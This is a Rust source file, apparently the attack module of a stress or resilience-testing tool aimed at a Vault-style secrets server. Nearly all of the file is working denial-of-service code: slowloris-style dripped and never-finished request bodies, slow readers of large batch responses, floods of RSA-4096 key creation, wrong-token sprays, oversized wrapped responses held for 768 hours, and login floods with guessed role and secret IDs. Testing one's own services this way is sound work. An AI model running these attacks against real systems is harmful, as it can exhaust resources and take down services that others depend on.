//! The attacks themselves. Each goes on until it is told that it is over.

use std::io;
use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::Ordering;
use std::time::Duration;

use futures_util::future::join_all;
use rand::RngExt as _;
use serde_json::json;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::sleep;

use super::{Effort, Ground, runtime};
use crate::arguments::AttackKind;
use crate::connection::Connection;
use crate::http::post;

/// Attacks until it is over.
pub(super) fn run(
    kind: AttackKind,
    ground: &Arc<Ground>,
    effort: &Arc<Effort>,
) -> anyhow::Result<()> {
    let attacker = Attacker {
        ground: Arc::clone(ground),
        effort: Arc::clone(effort),
    };
    runtime()?.block_on(attacker.attack(kind));
    Ok(())
}

struct Attacker {
    ground: Arc<Ground>,
    effort: Arc<Effort>,
}

impl Attacker {
    async fn attack(&self, kind: AttackKind) {
        let token = &self.ground.token;
        match kind {
            AttackKind::SlowBodies => {
                let path = self.path("encrypt/attack-none");
                self.each(4100, |_| {
                    self.drip(&path, token, 1000, Duration::from_secs(10))
                })
                .await;
            }
            AttackKind::EndlessBodies => {
                self.each(8, |_| self.never_end()).await;
            }
            AttackKind::SlowStrangers => {
                let path = format!("/v1/auth/{}/login/probe", self.ground.userpass);
                self.each(560, |_| self.drip(&path, "", 1000, Duration::from_secs(4)))
                    .await;
            }
            AttackKind::SlowReaders => self.each(32, |_| self.hardly_read()).await,
            AttackKind::RsaKeys => self.create_and_hang_up().await,
            AttackKind::WrongTokens => {
                let path = self.path("encrypt/attack-none");
                let request = |number| {
                    let token = format!("hvs.{number:032x}");
                    post(&self.host(), &path, &token, "{\"plaintext\":\"\"}")
                };
                self.each(16, |_| self.repeat(&request)).await;
            }
            AttackKind::Wraps => {
                let path = "/v1/sys/wrapping/wrap";
                let body = json!({"value": "x".repeat((1 << 20) - 1000)}).to_string();
                let plain = post(&self.host(), path, &self.ground.weak_token, &body);
                let request = wrapped(&plain);
                self.each(8, |_| self.repeat(|_| request.clone())).await;
            }
            AttackKind::UnknownNames => {
                self.each(16, |_| self.repeat(|number| self.unknown(number)))
                    .await;
            }
        }
    }

    /// So many at once, each until it is over.
    async fn each<F: Future<Output = ()>>(&self, count: usize, work: impl Fn(usize) -> F) {
        join_all((0..count).map(work)).await;
    }

    fn host(&self) -> String {
        self.ground.target.to_string()
    }

    fn path(&self, rest: &str) -> String {
        format!("/v1/{}/{rest}", self.ground.mount)
    }

    async fn connect(&self) -> io::Result<TcpStream> {
        let socket = if self.ground.from.is_ipv4() {
            TcpSocket::new_v4()?
        } else {
            TcpSocket::new_v6()?
        };
        socket.bind(SocketAddr::new(self.ground.from, 0))?;
        let connected = socket.connect(self.ground.target).await;
        let count = match &connected {
            Ok(_) => &self.effort.connections,
            Err(_) => &self.effort.not_connected,
        };
        count.fetch_add(1, Ordering::Relaxed);
        connected
    }

    /// Again and again, after a pause where it fails at once.
    async fn until_over<F: Future<Output = io::Result<()>>>(&self, work: impl Fn() -> F) {
        while !self.effort.is_over() {
            let ended = tokio::select! {
                ended = work() => ended,
                () = self.over() => return,
            };
            if ended.is_err() {
                sleep(PAUSE).await;
            }
        }
    }

    async fn over(&self) {
        while !self.effort.is_over() {
            sleep(PAUSE).await;
        }
    }

    fn sent(&self) {
        self.effort.requests.fetch_add(1, Ordering::Relaxed);
    }

    /// Sends a head, and then the body byte by byte.
    async fn drip(&self, path: &str, token: &str, length: usize, pause: Duration) {
        let head = head(&self.host(), path, token, length);
        self.until_over(|| async {
            let mut stream = self.connect().await?;
            stream.write_all(&head).await?;
            self.sent();
            loop {
                let mut answer = [0; 1024];
                tokio::select! {
                    read = stream.read(&mut answer) => {
                        self.effort.refused.fetch_add(1, Ordering::Relaxed);
                        return read.and_then(|_| Err(io::ErrorKind::ConnectionReset.into()));
                    }
                    () = sleep(pause) => stream.write_all(b" ").await?,
                }
            }
        })
        .await;
    }

    /// A body of which all comes but the end.
    async fn never_end(&self) {
        let (length, missing) = (32 << 20, 12);
        let head = head(
            &self.host(),
            &self.path("encrypt/attack-none"),
            &self.ground.token,
            length,
        );
        self.until_over(|| async {
            let mut stream = self.connect().await?;
            stream.write_all(&head).await?;
            self.sent();
            let chunk = vec![b' '; 64 << 10];
            let mut left = length - missing;
            while left > 0 {
                let now = left.min(chunk.len());
                stream
                    .write_all(chunk.get(..now).unwrap_or_default())
                    .await?;
                left -= now;
            }
            let mut answer = [0; 1024];
            // Whatever it says: it is over.
            let _read = stream.read(&mut answer).await?;
            self.effort.refused.fetch_add(1, Ordering::Relaxed);
            Err(io::ErrorKind::ConnectionReset.into())
        })
        .await;
    }

    /// Asks for a long answer and takes some 5 kB of it in a second.
    async fn hardly_read(&self) {
        let items = vec![json!({"plaintext": "QUFBQUFBQUFBQUFBQUFBQQ=="}); 20_000];
        let body = json!({"batch_input": items}).to_string();
        let path = self.path("encrypt/loadtest");
        let request = post(&self.host(), &path, &self.ground.token, &body);
        self.until_over(|| async {
            let mut stream = self.connect().await?;
            stream.write_all(&request).await?;
            self.sent();
            let mut some = [0; 1024];
            loop {
                if stream.read(&mut some).await? == 0 {
                    self.effort.refused.fetch_add(1, Ordering::Relaxed);
                    return Err(io::ErrorKind::ConnectionReset.into());
                }
                sleep(Duration::from_millis(200)).await;
            }
        })
        .await;
    }

    /// 220 a second.
    async fn create_and_hang_up(&self) {
        let mut number = 0_u64;
        while !self.effort.is_over() {
            let path = self.path(&format!("keys/attack-{number}"));
            let request = post(
                &self.host(),
                &path,
                &self.ground.token,
                "{\"type\":\"rsa-4096\"}",
            );
            if let Ok(mut stream) = self.connect().await
                && stream.write_all(&request).await.is_ok()
            {
                self.sent();
                // Not reset: the service is to read what was sent.
                drop(stream.shutdown().await);
            }
            number += 1;
            sleep(Duration::from_micros(4500)).await;
        }
    }

    /// Sends requests over one connection as fast as they are answered.
    async fn repeat(&self, request: impl Fn(u64) -> Vec<u8>) {
        let mut number: u64 = rand::rng().random();
        while !self.effort.is_over() {
            let Ok(stream) = self.connect().await else {
                sleep(PAUSE).await;
                continue;
            };
            let mut connection = Connection::over(stream);
            while !self.effort.is_over() {
                number = number.wrapping_add(1);
                self.sent();
                let Ok(head) = connection.exchange(&request(number)).await else {
                    break;
                };
                if head.status == 429 || head.status == 503 {
                    self.effort.refused.fetch_add(1, Ordering::Relaxed);
                }
                if head.closes {
                    break;
                }
            }
        }
    }

    fn unknown(&self, number: u64) -> Vec<u8> {
        let (path, body) = if number.is_multiple_of(2) {
            let body = json!({"role": format!("role-{number}"), "jwt": "a.b.c"});
            (format!("/v1/auth/{}/login", self.ground.kubernetes), body)
        } else {
            let secret = format!("chosen-{number}");
            let body = json!({"role_id": self.ground.role_id, "secret_id": secret});
            (format!("/v1/auth/{}/login", self.ground.approle), body)
        };
        post(&self.host(), &path, "", &body.to_string())
    }
}

/// The head of a POST whose body has this length.
fn head(host: &str, path: &str, token: &str, length: usize) -> Vec<u8> {
    let token = if token.is_empty() {
        String::new()
    } else {
        format!("X-Vault-Token: {token}\r\n")
    };
    format!("POST {path} HTTP/1.1\r\nHost: {host}\r\n{token}Content-Length: {length}\r\n\r\n")
        .into_bytes()
}

/// The same request, whose answer is to be wrapped for as long as there is.
fn wrapped(request: &[u8]) -> Vec<u8> {
    let end = request
        .iter()
        .position(|byte| *byte == b'\n')
        .map_or(0, |at| at + 1);
    let (line, rest) = request.split_at(end);
    [line, b"X-Vault-Wrap-TTL: 768h\r\n", rest].concat()
}

/// Between looks at whether it is over, and after what failed at once.
const PAUSE: Duration = Duration::from_millis(50);
